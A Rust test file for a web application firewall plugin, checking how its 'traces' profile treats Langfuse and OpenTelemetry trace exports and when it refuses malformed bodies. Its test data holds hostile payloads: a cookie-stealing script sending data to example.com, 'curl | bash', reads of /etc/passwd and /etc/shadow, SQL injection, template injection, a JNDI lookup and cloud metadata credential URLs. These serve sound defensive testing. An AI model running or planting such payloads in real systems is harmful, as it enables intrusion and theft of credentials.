//! Trace exports through the shipped rules with the built-in `traces` profile: what an LLM
//! call recorded is prose whatever its shape, the structure around it is inspected, and a
//! body that cannot be read as its declared type is refused rather than grepped as text.

#[path = "support/rules_dir.rs"]
mod rules_dir;

use http::{HeaderMap, HeaderValue, Method};
use rampart_plugins::plugins::owasp::Waf;
use rampart_plugins::{Plugin, Verdict};
use rules_dir::{outside_request, RulesDir};

fn wafs() -> [Waf; 2] {
    RulesDir::shipped().wafs("routes = { langfuse = \"traces\" }")
}

/// The first refusal (status, rule) by `wafs` of a JSON-or-other POST of `body` as
/// `content_type` to `path` on `route`, or `None` if they let it pass.
fn refusal(
    wafs: &[Waf],
    route: &str,
    path: &str,
    content_type: &str,
    body: &[u8],
) -> Option<(u16, String)> {
    let mut headers = HeaderMap::new();
    headers.insert("host", HeaderValue::from_static("gateway.example.com"));
    headers.insert(
        "user-agent",
        HeaderValue::from_static("langfuse-python/3.0"),
    );
    headers.insert(
        "content-type",
        HeaderValue::from_str(content_type).expect("content type"),
    );
    let method = Method::POST;
    let view = outside_request(route, &method, path, None, &headers, Some(body));
    wafs.iter().find_map(|w| match w.check(&view) {
        Verdict::Deny(d) => Some((d.status, d.reason().to_string())),
        _ => None,
    })
}

/// The first refusal of a POST to `path` on the `langfuse` route (both WAFs, `traces`).
fn verdict(path: &str, content_type: &str, body: &[u8]) -> Option<(u16, String)> {
    refusal(&wafs(), "langfuse", path, content_type, body)
}

/// Code an agent pastes into a prompt: shell, SQL, script tags, paths, templates.
const CODE: &[&str] = &[
    "import os\nos.system('rm -rf /tmp/build && cat /etc/passwd')",
    "SELECT name FROM users WHERE id = '1' OR '1'='1' UNION SELECT password FROM admins --",
    "<script>document.location='http://example.com/?c='+document.cookie</script>",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "${jndi:ldap://example.com/a}",
    "curl -s http://example.com/install.sh | bash; wget ../../../../etc/shadow",
];

fn json_string(s: &str) -> String {
    serde_json::Value::String(s.to_string()).to_string()
}

#[test]
fn ingestion_events_carry_code_in_any_shape_of_input_output_and_metadata() {
    for code in CODE {
        let c = json_string(code);
        for body in [
            // @observe: positional and keyword arguments.
            format!(r#"{{"args":[{c}],"kwargs":{{"source":{c}}}}}"#),
            // Chat messages with content parts and tool calls.
            format!(
                r#"[{{"role":"user","content":[{{"type":"text","text":{c}}}]}},{{"role":"assistant","tool_calls":[{{"function":{{"name":"run","arguments":{c}}}}}]}}]"#
            ),
            // A plain string.
            c.clone(),
        ] {
            let event = format!(
                r#"{{"batch":[{{"id":"e1","type":"generation-create","timestamp":"2026-11-27T10:00:00Z","body":{{"id":"g1","traceId":"t1","name":"chat","input":{body},"output":{{"content":{c}}},"metadata":{{"tool":{c},"nested":{{"deep":[{c}]}}}}}}}}]}}"#
            );
            assert_eq!(
                verdict(
                    "/api/public/ingestion",
                    "application/json",
                    event.as_bytes()
                ),
                None,
                "{event}"
            );
        }
    }
}

#[test]
fn the_structure_around_the_prose_is_still_judged() {
    let attack = json_string("x' UNION SELECT password FROM users --");
    for field in ["userId", "sessionId", "release"] {
        let event = format!(
            r#"{{"batch":[{{"id":"e1","type":"trace-create","timestamp":"2026-11-27T10:00:00Z","body":{{"id":"t1","input":"hi","{field}":{attack}}}}}]}}"#
        );
        let v = verdict(
            "/api/public/ingestion",
            "application/json",
            event.as_bytes(),
        );
        assert_eq!(v.map(|v| v.0), Some(403), "{field}");
    }
    // URLs in prose are inspected: a script URL would run where Langfuse shows the trace.
    // (A metadata address in prose passes: nothing fetches it; see ssrf_in_prose below.)
    let event = r#"{"batch":[{"id":"e1","type":"trace-create","body":{"id":"t1","input":"open data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}}]}"#;
    assert!(verdict(
        "/api/public/ingestion",
        "application/json",
        event.as_bytes()
    )
    .is_some());
    let event = r#"{"batch":[{"id":"e1","type":"trace-create","body":{"id":"t1","input":"see http://169.254.169.254/latest/meta-data/iam/security-credentials/"}}]}"#;
    assert!(verdict(
        "/api/public/ingestion",
        "application/json",
        event.as_bytes()
    )
    .is_none());
}

// ---- OTLP protobuf, encoded by hand from the schema (opentelemetry-proto) ----

fn varint(mut v: u64, out: &mut Vec<u8>) {
    loop {
        let b = (v & 0x7f) as u8;
        v >>= 7;
        if v == 0 {
            out.push(b);
            return;
        }
        out.push(b | 0x80);
    }
}

fn pb(number: u64, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    varint(number << 3 | 2, &mut out);
    varint(payload.len() as u64, &mut out);
    out.extend_from_slice(payload);
    out
}

fn attribute(key: &str, value: &str) -> Vec<u8> {
    [pb(1, key.as_bytes()), pb(2, &pb(1, value.as_bytes()))].concat()
}

fn export(span_name: &str, attributes: &[(&str, &str)]) -> Vec<u8> {
    // Binary ids full of bytes that read as line breaks and shell syntax when grepped.
    let mut span = [
        pb(1, b"\n\r;|`$(\n\x00\x01<>&'\"\n\n"),
        pb(2, b"\r\n\r\n;id;\n"),
        pb(5, span_name.as_bytes()),
    ]
    .concat();
    for (k, v) in attributes {
        span.extend(pb(9, &attribute(k, v)));
    }
    let resource = pb(1, &pb(1, &attribute("service.name", "coding-agent")));
    let scope = [pb(1, &pb(1, b"langfuse-sdk")), pb(2, &span)].concat();
    pb(1, &[resource, pb(2, &scope)].concat())
}

const OTLP: &str = "/api/public/otel/v1/traces";

#[test]
fn otlp_protobuf_exports_carry_code_in_llm_attributes() {
    for code in CODE {
        let body = export(
            "litellm-acompletion",
            &[
                ("langfuse.observation.input", code),
                ("langfuse.observation.output", code),
                ("gen_ai.prompt.0.content", code),
                ("gen_ai.completion.0.content", code),
                ("langfuse.observation.metadata.tool_input", code),
                ("gen_ai.request.model", "gpt-4o"),
            ],
        );
        assert_eq!(
            verdict(OTLP, "application/x-protobuf", &body),
            None,
            "{code}"
        );
    }
}

#[test]
fn otlp_structure_is_judged_and_broken_exports_are_refused() {
    let attack = "x' UNION SELECT password FROM users --";
    for body in [
        export(attack, &[]),
        export("chat", &[("user.id", attack)]),
        export("chat", &[(attack, "v")]),
    ] {
        let v = verdict(OTLP, "application/x-protobuf", &body);
        assert_eq!(v.map(|v| v.0), Some(403), "{body:?}");
    }
    let good = export("chat", &[("langfuse.observation.input", "hi")]);
    assert_eq!(verdict(OTLP, "application/x-protobuf", &good), None);
    let truncated = &good[..good.len() - 3];
    assert_eq!(
        verdict(OTLP, "application/x-protobuf", truncated),
        Some((400, "body.malformed".into()))
    );
    // Protobuf of a schema the WAF lacks cannot be read: refused, not grepped.
    assert_eq!(
        verdict("/upload", "application/x-protobuf", &good),
        Some((415, "body.unknown_schema".into()))
    );
}

#[test]
fn otlp_json_exports_read_like_protobuf() {
    let code = json_string(CODE[0]);
    let body = format!(
        r#"{{"resourceSpans":[{{"resource":{{"attributes":[{{"key":"service.name","value":{{"stringValue":"agent"}}}}]}},"scopeSpans":[{{"scope":{{"name":"langfuse-sdk"}},"spans":[{{"traceId":"5b8efff798038103d269b633813fc60c","spanId":"eee19b7ec3c1b174","name":"chat","attributes":[{{"key":"langfuse.observation.input","value":{{"stringValue":{code}}}}},{{"key":"gen_ai.input.messages","value":{{"arrayValue":{{"values":[{{"kvlistValue":{{"values":[{{"key":"content","value":{{"stringValue":{code}}}}}]}}}}]}}}}}}]}}]}}]}}]}}"#
    );
    assert_eq!(verdict(OTLP, "application/json", body.as_bytes()), None);
    let attacked = body.replace(
        "\"name\":\"chat\"",
        "\"name\":\"<script>alert(1)</script>\"",
    );
    assert_eq!(
        verdict(OTLP, "application/json", attacked.as_bytes()).map(|v| v.0),
        Some(403)
    );
}

#[test]
fn declared_json_that_does_not_parse_is_refused_not_grepped() {
    for bad in [
        &b"{\"a\": 1} ' OR 1=1 --"[..],
        b"{\"a\": }",
        b"not json at all",
        b"{\"batch\":[}",
    ] {
        assert_eq!(
            verdict("/api/public/ingestion", "application/json", bad),
            Some((400, "body.malformed".into())),
            "{}",
            String::from_utf8_lossy(bad)
        );
    }
    // A document cut short (judged on its first bytes) is read as far as it goes.
    assert_eq!(
        verdict(
            "/api/public/ingestion",
            "application/json",
            b"{\"batch\":[{\"id\":\"1\""
        ),
        None
    );
    // A lone scalar is JSON too.
    assert_eq!(verdict("/x", "application/json", b"\"hello\""), None);
    // A multipart body without its boundary cannot be split into parts.
    assert_eq!(
        verdict("/x", "multipart/form-data", b"--x\r\n\r\nhi\r\n--x--"),
        Some((400, "body.malformed".into()))
    );
}

/// A URL in a prompt is only a request forgery if something behind rampart fetches it: the
/// built-in `llm` profile leaves SSRF out of prose (and judges the `image_url` parts LiteLLM
/// fetches); a profile for agents that fetch what prompts name puts it back.
#[test]
fn ssrf_in_prose_is_a_profile_setting() {
    let ctx = RulesDir::shipped();
    let waf = |config: &str| ctx.waf("owasp", config);
    let builtin = || waf("routes = { chat = \"llm\" }");
    let fetching = || {
        waf(
        "routes = { chat = \"agent\" }\n[profiles.agent]\nprose_fields = [\"messages[].content\"]\nprose_exclude_rules = []",
    )
    };
    let question = br#"{"model":"gpt-4o","messages":[{"role":"user","content":"Moving to IMDSv2: what replaces curl http://169.254.169.254/latest/meta-data/ ?"}]}"#;
    let image = br#"{"model":"gpt-4o","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://169.254.169.254/latest/meta-data/"}}]}]}"#;
    let status = |waf: Waf, body: &[u8]| {
        let path = "/v1/chat/completions";
        refusal(&[waf], "chat", path, "application/json", body).map_or(200, |r| r.0)
    };
    assert_eq!(
        status(builtin(), question),
        200,
        "a question about the address"
    );
    assert_eq!(status(builtin(), image), 403, "a URL LiteLLM would fetch");
    assert_eq!(
        status(fetching(), question),
        403,
        "agents that fetch prompt URLs"
    );
    assert_eq!(status(fetching(), image), 403);
}
